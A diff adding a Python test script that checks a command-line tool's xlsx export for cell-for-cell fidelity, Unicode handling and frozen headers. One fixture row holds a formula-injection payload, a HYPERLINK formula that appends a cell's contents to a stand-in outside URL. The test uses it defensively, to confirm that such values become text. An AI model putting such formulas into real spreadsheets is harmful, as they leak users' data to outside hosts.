@@ -1,0 +1,124 @@
+#!/usr/bin/env python3
+"""`dfnc export KIND FILE --format xlsx`: the workbook is read here as Excel
+reads it (the OOXML parts in the zip, with Python's own zipfile and XML, not
+the library that wrote it): one sheet of the CSV export's header and rows,
+cell for cell; Cyrillic and quotes intact; a name that would be a formula in a
+CSV file is a text cell here, and no cell anywhere holds a formula; whole
+numbers are numbers; the header row is frozen and filtered; `-` writes to
+standard output. (A value past a cell's 32,767 characters: tests/unit/test_xlsx.c.)
+Usage: xlsx_test.py DFNC_BINARY   (TAP on stdout)"""
+import csv
+import io
+import os
+import re
+import subprocess
+import sys
+import zipfile
+from xml.etree import ElementTree
+
+from tap import end, ok, scratch
+
+DFNC = os.path.realpath(sys.argv[1])
+NS = {'m': 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'}
+
+
+def dfnc(*args, db='t.db'):
+    return subprocess.run([DFNC, '--db', db] + list(args), capture_output=True)
+
+
+def column_index(ref):
+    letters = re.match(r'[A-Z]+', ref).group(0)
+    n = 0
+    for ch in letters:
+        n = n * 26 + ord(ch) - ord('A') + 1
+    return n - 1
+
+
+def read_book(data):
+    """The one sheet's rows as lists of (kind, text): kind is 's' for a
+    shared string, 'n' a number, 'f' a formula; and the sheet's XML."""
+    z = zipfile.ZipFile(io.BytesIO(data))
+    shared = []
+    if 'xl/sharedStrings.xml' in z.namelist():
+        for si in ElementTree.fromstring(z.read('xl/sharedStrings.xml')).findall('m:si', NS):
+            shared.append(''.join(t.text or '' for t in si.iter('{%s}t' % NS['m'])))
+    sheets = [n for n in z.namelist() if n.startswith('xl/worksheets/sheet')]
+    xml = z.read(sheets[0])
+    rows = []
+    for row in ElementTree.fromstring(xml).find('m:sheetData', NS).findall('m:row', NS):
+        cells = {}
+        for c in row.findall('m:c', NS):
+            if c.find('m:f', NS) is not None:
+                cells[column_index(c.get('r'))] = ('f', '')
+                continue
+            v = c.find('m:v', NS)
+            if c.get('t') == 's':
+                cells[column_index(c.get('r'))] = ('s', shared[int(v.text)])
+            elif c.get('t') == 'inlineStr':
+                cells[column_index(c.get('r'))] = ('s', ''.join(
+                    t.text or '' for t in c.iter('{%s}t' % NS['m'])))
+            else:
+                cells[column_index(c.get('r'))] = ('n', v.text)
+        width = max(cells) + 1 if cells else 0
+        rows.append([cells.get(i, ('', '')) for i in range(width)])
+    return rows, xml.decode('utf-8'), len(sheets)
+
+
+scratch()
+with open('orgs.csv', 'w', encoding='utf-8') as f:
+    f.write('id,name,country,kind,sme,city,website,description,name_uk\n'
+            'org-ua,"ТОВ ""Дніпро Дрон""",UA,company,1,Дніпро,https://dd.example,'
+            '"Дрони, РЕБ; ""лапки""",Дніпро Дрон\n'
+            'org-f,"=HYPERLINK(""http://x.test/?""&A2,""CV"")",DE,company,0,,,+49 30 000,\n'
+            '0042,Leading Zero GmbH,AT,research,0,Wien,,,\n')
+r = dfnc('import', 'organisations', 'orgs.csv')
+ok(r.returncode == 0, 'organisations imported', r.stderr)
+
+r = dfnc('export', 'organisations', 'orgs.xlsx', '--format', 'xlsx')
+ok(r.returncode == 0 and b'orgs.xlsx: 3 organisations' in r.stderr,
+   'export --format xlsx exits 0 and counts its rows', r.stderr)
+rows, sheet, nsheets = read_book(open('orgs.xlsx', 'rb').read())
+csv_rows = list(csv.reader(io.StringIO(dfnc('export', 'organisations', '-').stdout.decode())))
+ok(nsheets == 1, 'one sheet', nsheets)
+ok([t for _, t in rows[0]] == csv_rows[0], 'the header is the CSV\'s', rows[0])
+ok(len(rows) == len(csv_rows) == 4, 'a row per organisation under it', len(rows))
+
+
+def text_of(cell_list):
+    return [t for _, t in cell_list]
+
+
+by_id = {r[0][1]: r for r in rows[1:]}
+ua = by_id.get('org-ua')
+ok(ua is not None and ua[1] == ('s', 'ТОВ "Дніпро Дрон"') and ua[7] == ('s', 'Дрони, РЕБ; "лапки"'),
+   'Cyrillic, quotes and commas intact, as text', ua)
+f = by_id.get('org-f')
+ok(f is not None and f[1] == ('s', '=HYPERLINK("http://x.test/?"&A2,"CV")')
+   and f[7] == ('s', '+49 30 000'),
+   'a formula-like name is a text cell, without the CSV\'s apostrophe', f)
+ok('<f>' not in sheet and '<f ' not in sheet, 'no cell holds a formula')
+ok(ua[4] == ('n', '1') and by_id['org-f'][4] == ('n', '0'), 'sme is a number', ua[4])
+ok('0042' in by_id and by_id['0042'][0] == ('s', '0042'),
+   'an id with a leading zero stays text', list(by_id))
+for row in rows[1:]:   # every cell as the CSV export has it
+    csv_row = next(c for c in csv_rows[1:] if c[0] == row[0][1])
+    want = [v[1:] if v.startswith("'") else v for v in csv_row]
+    got = text_of(row) + [''] * (len(want) - len(row))
+    ok(got == want, 'row %s equals the CSV row' % row[0][1], (got, want))
+ok(re.search(r'<pane [^>]*ySplit="1"[^>]*state="frozen"', sheet) is not None,
+   'the header row is frozen', sheet[:400])
+ok(re.search(r'<autoFilter ref="A1:J4"', sheet) is not None, 'and filtered over every row',
+   re.findall(r'<autoFilter[^>]*>', sheet))
+
+# standard output, and the other kinds
+r = dfnc('export', 'people', '-', '--format', 'xlsx')
+ok(r.returncode == 0 and r.stdout[:2] == b'PK', '- writes the workbook to standard output',
+   r.stderr)
+ok(read_book(r.stdout)[0][0] and text_of(read_book(r.stdout)[0][0])
+   == ['id', 'organisation', 'name', 'email', 'title', 'languages'],
+   'an empty people sheet still has its header')
+
+r = dfnc('export', 'organisations', 'x.xlsx', '--format', 'xls')
+ok(r.returncode == 2 and b'csv, json or xlsx' in r.stderr, 'an unknown format names the three',
+   r.stderr)
+end()
